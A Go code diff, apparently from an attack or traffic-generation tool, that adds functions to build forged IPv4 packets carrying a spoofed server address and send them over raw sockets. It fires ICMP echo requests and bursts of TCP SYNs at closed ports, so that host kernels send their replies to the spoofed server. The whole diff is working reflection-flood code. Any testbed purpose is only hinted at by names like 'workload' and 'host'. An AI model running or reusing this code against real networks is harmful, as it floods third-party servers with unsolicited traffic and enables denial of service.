@@ -190,17 +190,48 @@ func ipv4Of(x *attack, from net.IP) []byte {
 // byEcho sends echo requests in the server's name to the host, or to the workload's own address
 // where it has none of its own.
 func byEcho(x *attack) (send, error) {
-	to := x.From.To4()
-	if x.Kind == onPort {
-		to = hostIn(int(to[1]) - 88).ip.To4()
-	}
-	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_NONBLOCK, unix.IPPROTO_RAW)
+	fd, to, err := towardsKernel(x)
 	echo := append([]byte{8, 0, 0, 0, 0, 7, 0, 1}, make([]byte, payload)...)
 	binary.BigEndian.PutUint16(echo[2:], checksum(echo))
-	packet := slices.Concat([]byte{0x45, 0, 0, 0, 0, 0, 0, 0, 64, unix.IPPROTO_ICMP, 0, 0}, x.To.To4(), to, echo)
+	packet := forgedIPv4(x, to.Addr, unix.IPPROTO_ICMP, echo)
+	return func(uint64) error { return unix.Sendto(fd, packet, 0, to) }, err
+}
+
+// byReset asks for connections to a closed port in the server's name, where byEcho asks for an
+// echo: some at once, since the answer has no payload.
+func byReset(x *attack) (send, error) {
+	const atOnce, flagSyn = 32, 2
+	fd, to, err := towardsKernel(x)
+	segment := []byte{0, 1, 0, 1, 0, 0, 0, 1, 0, 0, 0, 0, 5 << 4, flagSyn, 1, 0, 0, 0, 0, 0}
+	pseudo := slices.Concat(x.To.To4(), to.Addr[:], []byte{0, unix.IPPROTO_TCP, 0, byte(len(segment))})
+	binary.BigEndian.PutUint16(segment[16:], checksum(append(pseudo, segment...)))
+	packet := forgedIPv4(x, to.Addr, unix.IPPROTO_TCP, segment)
+	return func(uint64) error {
+		for range atOnce {
+			if err := unix.Sendto(fd, packet, 0, to); err != nil {
+				return err
+			}
+		}
+		return nil
+	}, err
+}
+
+// towardsKernel returns a raw socket, and the address of the kernel that is to answer: the host's,
+// of a workload with a port; else the workload's own.
+func towardsKernel(x *attack) (fd int, to *unix.SockaddrInet4, err error) {
+	at := x.From.To4()
+	if x.Kind == onPort {
+		at = hostIn(int(at[1]) - 88).ip.To4()
+	}
+	fd, err = unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_NONBLOCK, unix.IPPROTO_RAW)
+	return fd, &unix.SockaddrInet4{Addr: [4]byte(at)}, err
+}
+
+// forgedIPv4 returns a packet in the server's name.
+func forgedIPv4(x *attack, to [4]byte, protocol byte, content []byte) []byte {
+	packet := slices.Concat([]byte{0x45, 0, 0, 0, 0, 0, 0, 0, 64, protocol, 0, 0}, x.To.To4(), to[:], content)
 	binary.BigEndian.PutUint16(packet[2:], uint16(len(packet)))
-	at := &unix.SockaddrInet4{Addr: [4]byte(to)}
-	return func(uint64) error { return unix.Sendto(fd, packet, 0, at) }, err
+	return packet
 }
 
 // byRaw sends packets with their IP header.
